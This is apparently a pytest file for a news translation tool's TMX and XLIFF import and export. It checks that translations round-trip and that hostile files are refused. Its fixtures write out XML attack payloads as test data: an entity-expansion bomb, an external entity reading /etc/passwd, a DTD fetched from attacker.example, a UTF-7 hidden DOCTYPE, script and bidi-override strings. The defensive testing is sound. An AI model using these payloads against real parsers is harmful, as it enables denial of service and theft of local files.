"""Memories and articles go out to translators and come back as they were; what is made to harm is refused whole."""

from __future__ import annotations

import codecs
from dataclasses import replace

import pytest
from lxml import etree

from coranto.translation.exchange import Broken, Code, ExchangeError, Job, TooMuch, Unit, WrongLanguage, door
from coranto.translation.exchange.tmx import read_tmx, write_tmx
from coranto.translation.exchange.xliff import read_xliff, write_xliff

LINK = Code(1, "a", (("href", "https://example.org/?a=1&b=2"),))
XLIFF = "{urn:oasis:names:tc:xliff:document:2.0}"


def make_unit(**changed: object) -> Unit:
    unit = Unit(
        "en", "ar", "See <1>the <2>new</2> &amp; old</1> map<3/>.", "انظر <1>الخريطة <2>الجديدة</2> &amp; القديمة</1><3/>.",
        state="edited", key="body.b1.html#1", digest="0" * 32, context="after: “Yes.”", person="Nadia Haddad", engine="firefox", model="en-ar 1.2",
        via=("en", "fr"), made_at="2026-11-24T15:00:01+00:00", notes=("Keep it short.", "كما في العدد السابق"), codes=(LINK, Code(2, "em"), Code(3, "br")), is_outdated=True,
    )  # fmt: skip
    return replace(unit, **changed)  # type: ignore[arg-type]


UNITS = [
    make_unit(),
    make_unit(
        target_language="ja",
        target="<1><2>新しい</2>＆古い</1>地図<3/>を見る。",
        state="machine",
        person="",
        via=(),
        is_outdated=False,
        made_at="2026-11-24T15:00:01.250000+00:00",
    ),
    make_unit(source="A  line &lt;1&gt;\n\twith 𝄞", target="שורה &lt;1&gt;\n\t𝄞  ", codes=(), key="headline#1", target_language="he", notes=()),
    make_unit(
        source="<2>b</2> before <1>a</1>", target="<1>a</1> قبل <2>b</2>", codes=(LINK, Code(2, "em")), key="k#2", state="translated", engine="", model=""
    ),
]


def test_a_memory_goes_out_as_tmx_and_comes_back_as_it_was() -> None:
    back = read_tmx(write_tmx(UNITS))
    assert sorted(back, key=repr) == sorted((replace(one, notes=UNITS[0].notes) if one.key == "body.b1.html#1" else one for one in UNITS), key=repr)


def test_an_article_goes_out_as_xliff_and_comes_back_as_it_was() -> None:
    job = Job(
        "the-road", "en", "ar", tuple(one for one in UNITS if one.target_language == "ar"), version="3", title="The road & its news", notes=("Due on Friday.",)
    )
    assert read_xliff(write_xliff(job)) == [job]


def test_what_is_not_translated_yet_goes_out_without_a_target() -> None:
    job = Job("the-road", "en", "ar", (make_unit(target=None, state="", person="", engine="", model="", via=(), made_at=""),))
    root = etree.fromstring(write_xliff(job))
    assert root.findall(f".//{XLIFF}target") == [] and root.find(f".//{XLIFF}segment").get("state") == "initial"  # type: ignore[union-attr]
    assert read_xliff(write_xliff(job)) == [job]


def test_another_reader_finds_the_structure_that_tmx_asks_for() -> None:
    root = etree.fromstring(write_tmx(UNITS))
    assert (root.tag, root.get("version"), [child.tag for child in root]) == ("tmx", "1.4", ["header", "body"])
    needed = {"creationtool", "creationtoolversion", "segtype", "o-tmf", "adminlang", "srclang", "datatype"}
    assert needed <= set(root[0].attrib)
    order = {"note": 0, "prop": 0, "tuv": 1, "seg": 1}
    for element in [*root.iter("tu"), *root.iter("tuv")]:
        ranks = [order[str(child.tag)] for child in element]
        assert ranks == sorted(ranks) and 1 in ranks
    for seg in root.iter("seg"):
        assert sorted(one.get("i", "") for one in seg.iter("bpt")) == sorted(one.get("i", "") for one in seg.iter("ept"))
        assert {str(child.tag) for child in seg} <= {"bpt", "ept", "ph"}
    assert len(list(root.iter("tu"))) == 3, "the two languages of one sentence stand in one unit"


def test_another_reader_finds_the_structure_that_xliff_asks_for() -> None:
    root = etree.fromstring(write_xliff(Job("the-road", "en", "ar", (UNITS[0],), notes=("n",))))
    assert (root.tag, root.get("version"), root.get("srcLang"), root.get("trgLang")) == (f"{XLIFF}xliff", "2.1", "en", "ar")
    unit = root.find(f".//{XLIFF}unit")
    assert unit is not None
    assert [etree.QName(child).localname for child in unit] == ["metadata", "notes", "originalData", "segment"]
    segment = unit.find(f"{XLIFF}segment")
    assert segment is not None and segment.get("state") == "reviewed" and segment.get("subState") == "coranto:edited"
    data = {one.get("id"): one.text for one in unit.iter(f"{XLIFF}data")}
    for side in ("source", "target"):
        code = unit.find(f".//{XLIFF}{side}/{XLIFF}pc")
        assert code is not None and data[code.get("dataRefStart")] == '<a href="https://example.org/?a=1&amp;b=2">' and data[code.get("dataRefEnd")] == "</a>"
        assert code.find(f"{XLIFF}pc") is not None, "the emphasis stands inside the link"


def test_a_translator_confirms_a_machines_sentence_and_the_state_says_so() -> None:
    sent = write_xliff(Job("a", "en", "ar", (make_unit(state="machine"),))).decode()
    assert read_xliff(sent.encode())[0].units[0].state == "machine"
    confirmed = sent.replace('state="translated" subState="coranto:machine"', 'state="final"')
    assert confirmed != sent and read_xliff(confirmed.encode())[0].units[0].state == "translated"
    assert read_xliff(sent.replace('state="translated"', 'state="reviewed"').encode())[0].units[0].state == "edited"


def test_a_tool_cuts_a_unit_into_two_segments_and_they_are_joined_again() -> None:
    data = f"""<xliff xmlns="{XLIFF[1:-1]}" version="2.0" srcLang="en-GB" trgLang="zh-TW"><file id="1" original="a"><unit id="1" name="k#1">
    <segment state="final"><source>One <sc id="1"/>two.</source><target>一<sc id="1"/>二。</target></segment><ignorable><source> </source></ignorable>
    <segment state="translated"><source>Three<ec startRef="1"/>.</source><target>三<mrk id="m" type="term">點</mrk><ec startRef="1"/>。</target></segment></unit></file></xliff>"""
    unit = read_xliff(data.encode())[0].units[0]
    assert (unit.source, unit.target) == ("One <1>two. Three</1>.", "一<1>二。 三點</1>。")
    assert (unit.source_language, unit.target_language, unit.state) == ("en", "zh-Hant", "translated")


def test_a_memory_of_another_tool_is_read_whatever_it_writes_at_the_top() -> None:
    body = """<tmx version="1.4"><header creationtool="OmegaT" creationtoolversion="6" segtype="sentence" o-tmf="x" adminlang="EN-US" srclang="EN-US" datatype="plaintext"/>
    <body><tu><tuv xml:lang="EN-US"><seg>Big <bpt i="0" x="1">&lt;b&gt;</bpt>news<ept i="0"/></seg></tuv>
    <tuv xml:lang="PT-BR" changedate="20240102T030405Z" changeid="ana"><seg>Grandes <bpt i="0" x="1"/>novas<ept i="0"/></seg></tuv><tuv xml:lang="tlh"><seg>Qapla</seg></tuv></tu></body></tmx>"""
    tops = ['<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE tmx SYSTEM "tmx14.dtd">\n', "", "\ufeff<?xml version='1.0'?>"]
    for top in tops:
        (unit,) = read_tmx((top + body).encode())
        assert (unit.source, unit.target, unit.target_language, unit.person) == ("Big <1>news</1>", "Grandes <1>novas</1>", "pt", "ana")
        assert unit.made_at == "2024-01-02T03:04:05+00:00" and unit.codes == (Code(1, "b"),)
    (again,) = read_tmx(codecs.BOM_UTF16_LE + ('<?xml version="1.0" encoding="UTF-16"?>' + body).encode("utf-16-le"))
    assert again == unit


# What is made to harm, or is damaged: nothing of it is taken


def make_tmx(source: str = "One", target: str = "Uno", *, top: str = "", language: str = "es", more: str = "", name: str = "t1") -> bytes:
    unit = f'<tu tuid="{name}"><tuv xml:lang="en"><seg>{source}</seg></tuv><tuv xml:lang="{language}"><seg>{target}</seg></tuv></tu>'
    return f'{top}<tmx version="1.4"><header srclang="en"/><body>{unit}{more}</body></tmx>'.encode()


def make_xliff(target: str = "Uno", *, top: str = "", trg: str = "es", more: str = "", name: str = "u1") -> bytes:
    unit = f'<unit id="{name}" name="k#1"><segment><source>One</source><target>{target}</target></segment></unit>'
    return f'{top}<xliff xmlns="{XLIFF[1:-1]}" version="2.1" srcLang="en" trgLang="{trg}"><file id="f" original="a">{unit}{more}</file></xliff>'.encode()


BOMB = '<!DOCTYPE tmx [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
OUTSIDE = '<!DOCTYPE tmx [<!ENTITY file SYSTEM "file:///etc/passwd">]>'
ELSEWHERE = '<!DOCTYPE tmx SYSTEM "http://attacker.example/tmx14.dtd" [<!ENTITY % x SYSTEM "http://attacker.example/x"> %x;]>'
TEXTS = {
    "a mark that turns letters": "un\u202eo",
    "a direction left open": "\u2067uno",
    "a direction closed twice": "uno\u2069",
    "an entity": "&file;",
    "an unknown element": "<script>alert(1)</script>",
    "a very long text": "a" * 20_001,
    "a control character": "&#x1;",
}
TMX_FILES: dict[str, bytes] = {
    "no XML": b"hello",
    "nothing": b"",
    "another format": b"<html/>",
    "another version": b'<tmx version="9"/>',
    "no body": b'<tmx version="1.4"><header/></tmx>',
    "a bomb": make_tmx("&c;", top=BOMB),
    "a file of the machine": make_tmx("&file;", top=OUTSIDE),
    "a document type elsewhere": make_tmx(top=ELSEWHERE),
    "a document type of another kind": make_tmx(top='<!DOCTYPE html SYSTEM "tmx14.dtd">'),
    "cut short": make_tmx()[:-20],
    "nested": b'<tmx version="1.4"><header/><body>' + b"<tu>" * 100 + b"</tu>" * 100 + b"</body></tmx>",
    "nested without end": b'<tmx version="1.4"><header/><body>' + b"<tu>" * 100_000,
    "no language of ours": make_tmx(language="tlh"),
    "a language that is no code": make_tmx(language="../../etc"),
    "the same id twice": make_tmx(more='<tu tuid="t1"><tuv xml:lang="en"><seg>a</seg></tuv></tu>'),
    "a language twice": make_tmx(
        more='<tu><tuv xml:lang="en"><seg>a</seg></tuv><tuv xml:lang="es"><seg>b</seg></tuv><tuv xml:lang="es-MX"><seg>c</seg></tuv></tu>'
    ),
    "an empty text": make_tmx(target=" "),
    "no text": make_tmx(more='<tu><tuv xml:lang="en"><seg>a</seg></tuv><tuv xml:lang="es"/></tu>'),
    "a tag that is never closed": make_tmx(target='<bpt i="1" x="1"/>uno'),
    "a tag that is never opened": make_tmx(target='uno<ept i="1"/>'),
    "tags that cross": make_tmx(target='<bpt i="1" x="1"/><bpt i="2" x="2"/>a<ept i="1"/><ept i="2"/>'),
    "a tag twice": make_tmx(target='<ph x="1"/><ph x="1"/>'),
    "a tag of no number": make_tmx(target='<ph x="one"/>'),
    "a tag of a large number": make_tmx(target=f'<ph x="{"9" * 5000}"/>'),
    "not the encoding it says": make_tmx("Ünö", top="\ufeff").decode().encode("latin-1", "ignore"),
    "an encoding not read": b'<?xml version="1.0" encoding="utf-7"?>' + make_tmx(),
    "UTF-16 in name only": b'<?xml version="1.0" encoding="utf-16"?>' + make_tmx(),
    "UTF-32": codecs.BOM_UTF32_LE + make_tmx().decode().encode("utf-32-le"),
    **{name: make_tmx(target=text) for name, text in TEXTS.items()},
}
XLIFF_FILES: dict[str, bytes] = {
    "no XML": b"{}",
    "another format": b"<tmx version='1.4'/>",
    "XLIFF 1.2": b'<xliff version="1.2" xmlns="urn:oasis:names:tc:xliff:document:1.2"/>',
    "no file in it": f'<xliff xmlns="{XLIFF[1:-1]}" version="2.1" srcLang="en" trgLang="es"/>'.encode(),
    "a bomb": make_xliff("&c;", top=BOMB),
    "a file of the machine": make_xliff("&file;", top=OUTSIDE),
    "any document type": make_xliff(top='<!DOCTYPE xliff SYSTEM "xliff.dtd">'),
    "a language that is none": make_xliff(trg="tlh"),
    "no language": make_xliff(trg=""),
    "its own language": make_xliff(trg="en-US"),
    "the same id twice": make_xliff(more='<unit id="u1"><segment><source>a</source></segment></unit>'),
    "the same place twice": make_xliff(more='<unit id="u2" name="k#1"><segment><source>a</source></segment></unit>'),
    "an empty source": make_xliff(more='<unit id="u2"><segment><source/></segment></unit>'),
    "no segment": make_xliff(more='<unit id="u2"/>'),
    "two files of one id": make_xliff().replace(b"</xliff>", b'<file id="f"/></xliff>'),
    "a tag twice": make_xliff('<ph id="1"/><ph id="1"/>'),
    "a tag of no number": make_xliff('<ph id="x"/>'),
    "a tag that is never closed": make_xliff('<sc id="1"/>uno'),
    "a tag that is never opened": make_xliff('uno<ec startRef="1"/>'),
    "tags that cross": make_xliff('<sc id="1"/><sc id="2"/>a<ec startRef="1"/><ec startRef="2"/>'),
    "a character that no text has": make_xliff('<cp hex="0001"/>'),
    "a mark by its number": make_xliff('<cp hex="202E"/>'),
    "an element that only looks like XLIFF's": make_xliff('<x:pc xmlns:x="urn:x" id="1">Uno</x:pc>'),
    "words of a segment that is another's": make_xliff().replace(b"<segment>", b'<x:segment xmlns:x="urn:x">').replace(b"</segment>", b"</x:segment>"),
    "nested": make_xliff("<pc id='1'>" * 60 + "</pc>" * 60),
    **{name: make_xliff(text) for name, text in TEXTS.items()},
}


@pytest.mark.parametrize("data", TMX_FILES.values(), ids=list(TMX_FILES))
def test_a_hostile_memory_is_refused_in_one_sentence(data: bytes) -> None:
    with pytest.raises(ExchangeError) as refused:
        read_tmx(data)
    assert_one_sentence(str(refused.value))


@pytest.mark.parametrize("data", XLIFF_FILES.values(), ids=list(XLIFF_FILES))
def test_a_hostile_article_is_refused_in_one_sentence(data: bytes) -> None:
    with pytest.raises(ExchangeError) as refused:
        read_xliff(data)
    assert_one_sentence(str(refused.value))


def assert_one_sentence(text: str) -> None:
    assert text.endswith(".") and "\n" not in text and ". " not in text and len(text) < 300
    assert "root:" not in text, "the password file of the machine is not in the answer"


def test_the_same_files_without_the_harm_are_read() -> None:
    assert [unit.target for unit in read_tmx(make_tmx())] == ["Uno"]
    assert [unit.target for unit in read_xliff(make_xliff())[0].units] == ["Uno"]
    assert (
        read_xliff(make_xliff('<pc id="1">Uno</pc>', more='<unit id="u2" name="k#2"><segment><source>a</source></segment></unit>'))[0].units[1].target is None
    )


def test_what_other_tools_add_in_their_own_names_is_left_out() -> None:
    more = '<m:matches xmlns:m="urn:oasis:names:tc:xliff:matches:2.0"><m:match ref="#u1"><source>One</source><target>Falso</target></m:match></m:matches>'
    data = make_xliff().replace(b'name="k#1">', f'name="k#1">{more}<x:segment xmlns:x="urn:x"><x:target>Falso</x:target></x:segment>'.encode())
    assert [(unit.source, unit.target) for unit in read_xliff(data)[0].units] == [("One", "Uno")]


def test_an_article_in_another_language_than_expected_is_refused() -> None:
    with pytest.raises(WrongLanguage, match=r"into es, and fr was expected"):
        read_xliff(make_xliff(), target_language="fr")
    assert read_xliff(make_xliff(), target_language="es")


def test_a_file_that_is_too_large_is_refused_before_it_is_read(tmp_path, monkeypatch) -> None:
    path = tmp_path / "large.tmx"
    path.write_bytes(make_tmx())
    assert door.read_bytes(path) == make_tmx()
    with path.open("r+b") as file:
        file.truncate(door.MOST_BYTES + 1)
    with pytest.raises(TooMuch):
        door.read_bytes(path)
    with pytest.raises(TooMuch):
        read_tmx(b" " * (door.MOST_BYTES + 1))
    with pytest.raises(Broken, match="cannot be opened"):
        door.read_bytes(tmp_path / "none.tmx")


def test_a_unit_of_very_many_elements_is_refused_and_a_memory_of_very_many_units_is_not(monkeypatch) -> None:
    monkeypatch.setattr(door, "MOST_ELEMENTS_A_PART", 50)
    assert read_tmx(make_tmx(more="<tu/>" * 60))
    with pytest.raises(TooMuch):
        read_tmx(make_tmx(more=f"<tu>{'<prop/>' * 60}</tu>"))


def test_a_unit_of_very_many_characters_is_refused(monkeypatch) -> None:
    monkeypatch.setattr(door, "PIECE", 100)
    monkeypatch.setattr(door, "MOST_SIGNS_A_PART", 20_000)
    assert read_tmx(make_tmx(more="<tu/>" * 8000))
    with pytest.raises(TooMuch):
        read_tmx(make_tmx(more=f"<tu><note>{'a' * 30_000}</note></tu>"))


def test_harm_at_the_seam_of_two_pieces_is_found(monkeypatch) -> None:
    data = make_tmx(more="<!DOCTYPE tmx>")
    for piece in range(len(data) - 60, len(data)):
        monkeypatch.setattr(door, "PIECE", piece)
        with pytest.raises(Broken, match="document type"):
            read_tmx(data)


def test_a_declaration_behind_white_space_hides_nothing(monkeypatch) -> None:
    hidden = b"   " * 200 + b"<?xml version='1.0' encoding='UTF-7'?>" + make_tmx().partition(b"?>")[2]
    for piece in (10, 100, 603, 605, 10_000):
        monkeypatch.setattr(door, "PIECE", piece)
        with pytest.raises(Broken, match="UTF"):
            read_tmx(hidden)


def test_what_cannot_be_nested_is_not_sent_to_a_translator_but_kept_in_a_memory() -> None:
    crossing = make_unit(source="<1>a<2>b</1>c</2>", target="x", codes=())
    with pytest.raises(Broken):
        write_xliff(Job("a", "en", "ar", (crossing,)))
    assert etree.fromstring(write_tmx([crossing])).findall(".//it")


def test_control_characters_never_break_a_file() -> None:
    (unit,) = read_tmx(write_tmx([make_unit(source="a\x00b", target="c\x1bd\ufffe", codes=(), person="e\x07f", notes=("g\x01h",))]))
    assert (unit.source, unit.target, unit.person, unit.notes) == ("ab", "cd", "ef", ("gh",))

def test_a_tag_with_a_number_of_thousands_of_digits_is_refused() -> None:
    with pytest.raises(Broken, match="tags are numbered"):
        read_tmx(make_tmx(f'<ph x="000001{"0" * 5000}"/>bridge'))


@pytest.mark.parametrize("declared", [' encoding="UTF-7"' + " " * 300, ' encoding="UTF-7" standalone=">"'])
def test_a_document_type_is_not_hidden_in_an_encoding_that_is_named_where_nobody_looks(declared: str) -> None:
    hidden = '+ADwAIQ-DOCTYPE tmx [+ADwAIQ-ENTITY a "b">]>'
    data = f'<?xml version="1.0"{declared}?>{hidden}'.encode() + make_tmx("a bridge").replace(b'version="', b'o="&a;" version="')
    with pytest.raises(Broken, match="declaration"):
        read_tmx(data)


def test_one_text_stands_in_a_file_once() -> None:
    file = '<file id="f{}" original="bridge"><unit id="u1"><segment><source>a</source></segment></unit></file>'
    data = f'<xliff xmlns="urn:oasis:names:tc:xliff:document:2.0" version="2.1" srcLang="en" trgLang="es">{file.format(1)}{file.format(2)}</xliff>'
    with pytest.raises(Broken, match="twice"):
        read_xliff(data.encode())


def test_a_language_whose_code_begins_like_chinese_is_none_of_ours() -> None:
    data = '<xliff xmlns="urn:oasis:names:tc:xliff:document:2.0" version="2.1" srcLang="en" trgLang="zha"><file id="f1" original="bridge"/></xliff>'
    with pytest.raises(WrongLanguage):
        read_xliff(data.encode())
